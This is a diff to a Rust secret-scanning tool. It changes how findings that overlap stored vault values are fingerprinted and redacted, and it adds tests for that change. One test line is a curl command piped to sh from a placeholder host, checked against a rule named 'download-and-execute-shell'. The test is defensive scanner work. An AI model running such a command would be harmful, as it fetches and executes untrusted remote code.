@@ -383,19 +383,20 @@ impl Scanner {
                 .take_while(|(line, _)| *line == finding.line)
                 .map(|&(_, mask)| mask)
                 .collect();
-            // A secret a rule found that is (or is within) a vault value is shown as the
-            // vault value is: by its length only.
-            if finding.mask
-                && finding.known.is_none()
+            // A finding of a rule whose match overlaps a vault value is not fingerprinted
+            // from the match: a fast hash of a vault value (or of code around one) would
+            // let whoever reads the finding test guesses of it offline. A secret it found
+            // is shown as the vault value is: by its length only.
+            if finding.known.is_none()
                 && on_line
                     .iter()
                     .any(|m| m.known && m.start < finding.end && m.end > finding.column - 1)
             {
-                finding.redacted =
-                    redact_known(&data[start + finding.column - 1..start + finding.end]);
-                // Nor is it fingerprinted: a fast hash of a vault value would let whoever
-                // reads the finding test guesses of it offline.
                 finding.fingerprint = fingerprint(&finding.rule, path, KNOWN_VALUE.as_bytes());
+                if finding.mask {
+                    finding.redacted =
+                        redact_known(&data[start + finding.column - 1..start + finding.end]);
+                }
             }
             if hide_lines {
                 // The scan stopped before the end of the file, or looked for vault values
@@ -854,6 +855,20 @@ mod tests {
         );
         let known = found.iter().find(|f| f.rule == KNOWN_VALUE).unwrap();
         assert_eq!(known.redacted, "****(22 chars)");
+        for f in &found {
+            assert!(!f.redacted.contains("Vaul"), "{}", f.redacted);
+            assert!(!f.context.contains("Vaul"), "{}", f.context);
+        }
+        // Code around a vault value is not fingerprinted from it either.
+        let matched = "curl -H \"K: Vault-Secret-Zq81-Lm02\" https://get.example.net/3 | sh";
+        assert_ne!(
+            code.fingerprint,
+            fingerprint("download-and-execute-shell", "x.sh", matched.as_bytes())
+        );
+        assert_eq!(
+            code.fingerprint,
+            fingerprint("download-and-execute-shell", "x.sh", KNOWN_VALUE.as_bytes())
+        );
         // A vault value that a rule finds too is redacted as a vault value by the rule.
         let key = b"ghp_R2x9bQ7mVt4Lk8Zp1Ws6Yc3Nd5Fh0Jg2Ua7E";
         let scanner =
@@ -898,10 +913,6 @@ mod tests {
                 !f.redacted.contains("ghp_") && !f.context.contains("ghp_"),
                 "{f:?}"
             );
-        }
-        for f in &found {
-            assert!(!f.redacted.contains("Vaul"), "{}", f.redacted);
-            assert!(!f.context.contains("Vaul"), "{}", f.context);
         }
     }
 
